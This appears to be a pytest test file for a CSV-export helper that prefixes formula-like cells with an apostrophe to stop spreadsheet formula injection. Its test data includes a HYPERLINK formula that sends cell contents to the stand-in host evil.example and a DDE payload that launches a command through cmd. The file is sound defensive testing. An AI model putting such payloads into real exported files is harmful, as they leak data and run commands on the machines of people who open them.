"""A cell that a spreadsheet would run as a formula gets an apostrophe, and no other cell is touched."""

import csv
from decimal import Decimal

import pytest

from core.spreadsheet_cells import harmless, line

RUN = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1",
    "+15125550142",
    "-120.00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
]
SHOWN = ["", "NGH-00001", "1234.50", "O'Brien", "'already", "a=b", "$1,234.50", " =1", "José", "•••"]


@pytest.mark.parametrize("text", RUN)
def test_what_would_run_is_only_shown(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", SHOWN)
def test_what_is_shown_anyway_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_line_reads_back_as_its_cells() -> None:
    cells = ["1", 'says "no", twice', "two\r\nlines", "=1", None, 7]
    written = line(cells)
    assert written.endswith("\r\n")
    assert next(csv.reader([written], strict=True)) == ["1", 'says "no", twice', "two\r\nlines", "'=1", "", "7"]


def test_a_number_is_a_number_also_below_zero() -> None:
    assert line([Decimal("-12.00"), -3, "-12.00"]) == "-12.00,-3,'-12.00\r\n"
